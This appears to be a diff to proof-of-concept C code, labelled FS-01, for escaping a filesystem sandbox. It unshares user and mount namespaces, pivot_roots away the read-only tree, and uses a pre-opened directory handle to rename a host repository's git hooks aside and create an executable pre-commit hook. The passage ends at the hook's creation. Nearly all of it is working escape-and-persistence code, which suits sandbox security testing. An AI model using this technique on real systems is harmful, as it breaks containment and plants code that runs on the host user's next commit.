@@ -1,5 +1,5 @@
-// FS-01: with a user namespace of one's own the whole tree, and every read-only mount with it, is put aside; a directory opened
-// before leads back to the host's files.
+// FS-01: with a user namespace of one's own the whole tree, and every read-only mount with it, is put aside. A directory opened
+// before leads back to the host's files, and a mount point that is not in the current namespace can be renamed away.
 static int strip(int argc, char **argv)
 {
     int git = open(argv[2], O_PATH | O_DIRECTORY);
@@ -9,25 +9,25 @@ static int strip(int argc, char **argv)
     gid_t gid = getgid();
     if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
         return report("unshare", -1);
+    // uid 0 without CAP_SETFCAP may not map itself; the attack works without a map too, since the files belong to the same uid.
     char map[64];
-    if (write_text("/proc/self/setgroups", "deny") < 0)
-        return report("setgroups", -1);
+    write_text("/proc/self/setgroups", "deny");
     snprintf(map, sizeof map, "0 %u 1", uid);
-    if (write_text("/proc/self/uid_map", map) < 0)
-        return report("uid_map", -1);
+    write_text("/proc/self/uid_map", map);
     snprintf(map, sizeof map, "0 %u 1", gid);
-    if (write_text("/proc/self/gid_map", map) < 0)
-        return report("gid_map", -1);
+    write_text("/proc/self/gid_map", map);
     if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
         return report("private", -1);
     if (mount("none", "/usr", "tmpfs", 0, NULL) < 0)
         return report("tmpfs", -1);
-    if (chdir("/usr") < 0 || mkdir("old", 0700) < 0)
-        return report("mkdir", -1);
-    if (syscall(SYS_pivot_root, ".", "old") < 0)
+    if (chdir("/usr") < 0 || syscall(SYS_pivot_root, ".", ".") < 0)
         return report("pivot_root", -1);
-    if (chdir("/") < 0 || umount2("/old", MNT_DETACH) < 0)
+    if (umount2(".", MNT_DETACH) < 0)
         return report("umount2", -1);
+    if (renameat(git, "hooks", git, "hooks.aside") < 0)
+        return report("renameat", -1);
+    if (mkdirat(git, "hooks", 0755) < 0)
+        return report("mkdirat", -1);
     int hook = openat(git, "hooks/pre-commit", O_WRONLY | O_CREAT | O_TRUNC, 0755);
     if (hook < 0)
         return report("create", -1);
